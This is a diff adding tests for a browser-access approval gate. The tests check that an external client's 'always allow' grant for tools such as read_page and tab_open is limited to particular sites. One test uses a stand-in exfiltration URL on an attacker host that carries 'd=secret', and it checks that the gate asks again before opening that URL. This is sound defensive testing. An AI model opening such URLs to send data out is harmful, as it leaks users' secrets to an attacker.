@@ -7,7 +7,7 @@ import {
 import { createApprovalBroker } from '../../src/browser-access/approvals';
 import { createChatBrowserTools, MAX_CHAT_PINS } from '../../src/browser-access/chat-browser-tools';
 import { createClientRegistry, type ClientRecord } from '../../src/browser-access/clients';
-import { createGate } from '../../src/browser-access/gate';
+import { createGate, pinnedDefinition } from '../../src/browser-access/gate';
 import { browserHubTools, type HubTool } from '../../src/browser-access/hub';
 import { extensionSocketUrl } from '../../src/browser-access/relay-address';
 import { BROWSER_ACCESS_CLIENTS_KEY } from '../../src/browser-access/settings';
@@ -290,6 +290,122 @@ describe('the gate’s tab for a browser tool', () => {
     expect(approvals.list()[0]?.target).toBeUndefined();
     approvals.answer(approvals.list()[0]!.id, 'approve');
     expect(textOf(await result)).toMatch(/could not tell which tab.*tabs are gone/);
+  });
+});
+
+describe('an external client’s “always allow” of a browser tool', () => {
+  const identity = { user: 'alice', token: 'jti-12345678', name: 'Desk' };
+
+  /** The gate over a registry in `store`; `identity` is a client the person lets in (ask). */
+  async function setup(store = createMemoryStore()) {
+    const control = stubBrowserControl();
+    const clients = createClientRegistry(store);
+    const approvals = createApprovalBroker(() => undefined);
+    const gate = createGate({
+      clients,
+      approvals,
+      activity: createActivityLog(createMemoryStore(), () => undefined),
+      enabled: async () => true,
+      onAllowed: () => undefined,
+    });
+    const { id } = await clients.identify(identity);
+    await clients.setPolicy(id, 'ask');
+    const tools = browserHubTools(createBrowserTools(control));
+    const asked: string[] = [];
+    /** Calls through the gate, answering a card with `answer` if one comes. */
+    const call = async (
+      name: string,
+      args: Record<string, unknown>,
+      answer: 'approve' | 'always' = 'approve',
+    ) => {
+      const client = (await clients.get(id))!;
+      const hub = tools.find((each) => each.name === name)!;
+      const result = gate.call(client, hub, args, new AbortController().signal, (target) =>
+        hub.run(args, new AbortController().signal, target ? { target } : {}),
+      );
+      const first = await Promise.race([
+        result.then(() => 'ran' as const),
+        vi.waitFor(() => expect(approvals.list()).toHaveLength(1)).then(() => 'asked' as const),
+      ]);
+      if (first === 'asked') {
+        asked.push(name);
+        approvals.answer(approvals.list()[0]!.id, answer);
+      }
+      return result;
+    };
+    return { control, clients, id, call, asked, tools };
+  }
+
+  it('holds on the origin it was given on, and asks again on another', async () => {
+    const { control, call, asked, clients, id } = await setup();
+    await call('read_page', {}, 'always');
+    await call('read_page', {});
+    expect(asked).toEqual(['read_page']);
+    expect((await clients.get(id))!.alwaysAllow).toEqual([
+      expect.objectContaining({ name: 'read_page', origins: ['https://example.com'] }),
+    ]);
+    await showInbox(control);
+    await call('read_page', {}, 'always');
+    await call('read_page', {});
+    expect(asked).toEqual(['read_page', 'read_page']);
+    expect((await clients.get(id))!.alwaysAllow[0]?.origins).toEqual([
+      'https://example.com',
+      'https://mail.example',
+    ]);
+  });
+
+  it('of tab_open holds for where it sends, not for the tab it came from', async () => {
+    const { call, asked } = await setup();
+    await call('tab_open', { url: 'https://news.example/a' }, 'always');
+    await call('tab_open', { url: 'https://news.example/b' });
+    await call('tab_open', { url: 'http://attacker.localhost:8080/collect?d=secret' });
+    expect(asked).toEqual(['tab_open', 'tab_open']);
+  });
+
+  it('saved before grants had origins asks again, then holds on the site it is given on', async () => {
+    const { id, tools } = await setup();
+    const definition = pinnedDefinition(tools.find((each) => each.name === 'read_page')!);
+    const now = Date.now();
+    const store = createMemoryStore({
+      [BROWSER_ACCESS_CLIENTS_KEY]: [
+        {
+          id,
+          name: 'Desk',
+          otherNames: [],
+          user: 'alice',
+          tokenHint: 'jti-1234',
+          policy: 'ask',
+          alwaysAllow: [{ name: 'read_page', definition }],
+          firstSeen: now,
+          lastSeen: now,
+        },
+      ],
+    });
+    const { call, asked } = await setup(store);
+    await call('read_page', {}, 'always');
+    await call('read_page', {});
+    expect(asked).toEqual(['read_page']);
+  });
+
+  it('given where the tab cannot be told lets that call run and grants nothing', async () => {
+    const { control, call, asked, clients, id } = await setup();
+    const activeTab = control.activeTab.bind(control);
+    control.activeTab = async () => {
+      throw new Error('tabs are gone');
+    };
+    await call('read_page', {}, 'always');
+    expect((await clients.get(id))!.alwaysAllow).toEqual([]);
+    control.activeTab = activeTab;
+    await call('read_page', {});
+    expect(asked).toEqual(['read_page', 'read_page']);
+  });
+
+  it('of a server’s tool stays pinned to its description alone', async () => {
+    const { clients, id } = await setup();
+    await clients.allowAlways(id, 'notes__add_note', 'v1');
+    expect((await clients.get(id))!.alwaysAllow).toEqual([
+      { name: 'notes__add_note', definition: 'v1' },
+    ]);
   });
 });
 
